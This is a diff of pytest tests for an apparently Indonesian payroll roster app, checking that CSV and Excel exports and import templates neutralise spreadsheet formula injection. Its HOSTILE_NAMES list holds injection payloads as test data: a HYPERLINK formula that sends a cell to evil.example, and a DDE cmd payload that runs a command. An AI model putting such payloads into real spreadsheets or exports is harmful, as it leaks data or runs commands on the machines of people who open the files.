@@ -91,3 +91,104 @@ def test_csv_to_standard_output(capsys):
     assert lines[0] == ",".join(COLUMNS)
     assert len(lines) == KENDARI_PARTICIPANTS + 1
     assert "1136" in captured.err
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?n="&B2,"Klik")',
+    "+62 SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+]
+
+
+def _name_workers(employer, names):
+    """Give the first workers of `employer`'s roster (name order) the hostile names."""
+    from payung.workers.models import Worker
+
+    workers = Worker.objects.filter(employments__employer=employer).order_by("pk")[: len(names)]
+    for worker, name in zip(workers, names, strict=True):
+        Worker.objects.filter(pk=worker.pk).update(name=name)
+
+
+def test_roster_csv_escapes_formula_starts(tmp_path):
+    """Finding 6: `payung export-roster --format csv` wrote `=`, `+`, `-`, `@` cells as is."""
+    employer = Employer.objects.get(npp=KENDARI_NPP)
+    _name_workers(employer, HOSTILE_NAMES)
+    out = tmp_path / "r.csv"
+    call_command("export-roster", employer=KENDARI_NPP, fmt="csv", on=OCTOBER, output=str(out))
+    with out.open(encoding="utf-8-sig", newline="") as stream:
+        rows = list(csv.reader(stream))
+    names = {row[COLUMNS.index("nama")] for row in rows[1:]}
+    assert {"'" + name for name in HOSTILE_NAMES} <= names
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row if cell.startswith(starts)]
+
+
+@pytest.mark.parametrize("fmt", ["sipp", "xlsx"])
+def test_roster_xlsx_writes_names_as_text(tmp_path, fmt):
+    """In the .xlsx and SIPP files a hostile name is a text cell, never a formula."""
+    from payung.core.tests.xlsx_cells import formulas, shared_strings
+
+    employer = Employer.objects.get(npp=KENDARI_NPP)
+    _name_workers(employer, HOSTILE_NAMES)
+    out = tmp_path / "r.xlsx"
+    write_roster(employer=employer, fmt=fmt, out=out, on=OCTOBER)
+    assert formulas(out) == []
+    assert set(HOSTILE_NAMES) <= set(shared_strings(out))
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_templates_hold_no_formula(client, user_named, fmt):
+    """The downloadable import templates: text cells, no formula start, in both formats."""
+    from payung.core.tests.xlsx_cells import formulas
+
+    client.force_login(user_named("cabang"))
+    response = client.get(f"/impor/templat.{fmt}")
+    assert response.status_code == 200
+    if fmt == "xlsx":
+        assert formulas(response.content) == []
+    else:
+        rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
+        assert rows[0] == list(COLUMNS)
+        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+
+
+def test_a_name_starting_with_a_dash_imports_back_from_xlsx(tmp_path, user_named):
+    """A name like "-Budi" (a typing slip) survives the .xlsx round trip: text in, text out."""
+    employer = Employer.objects.get(npp=KENDARI_NPP)
+    _name_workers(employer, ["-Budi Santoso"])
+    out = tmp_path / "r.xlsx"
+    write_roster(employer=employer, fmt="xlsx", out=out, on=OCTOBER)
+    result = import_roster(
+        path=out,
+        employer=employer,
+        mode="replace",
+        on=OCTOBER,
+        dry_run=True,
+        actor=user_named("cabang"),
+    )
+    assert (result.rejected, result.created, result.updated, result.ended) == (0, 0, 0, 0)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the CSV reader (payung/imports/reading.py, not changed here) must strip the export's "
+    "escape with payung.core.spreadsheets.unescape_text; strict: passes once it does",
+)
+def test_a_name_starting_with_a_dash_imports_back_from_csv(tmp_path, user_named):
+    """The CSV writes "-Budi" as "'-Budi" (a spreadsheet shows it, never runs it); the import
+    reads the escape back off, so the name comes back unchanged."""
+    employer = Employer.objects.get(npp=KENDARI_NPP)
+    _name_workers(employer, ["-Budi Santoso"])
+    out = tmp_path / "r.csv"
+    write_roster(employer=employer, fmt="csv", out=out, on=OCTOBER)
+    assert "'-Budi Santoso" in out.read_text(encoding="utf-8-sig")
+    result = import_roster(
+        path=out,
+        employer=employer,
+        mode="replace",
+        on=OCTOBER,
+        dry_run=True,
+        actor=user_named("cabang"),
+    )
+    assert (result.rejected, result.created, result.updated, result.ended) == (0, 0, 0, 0)
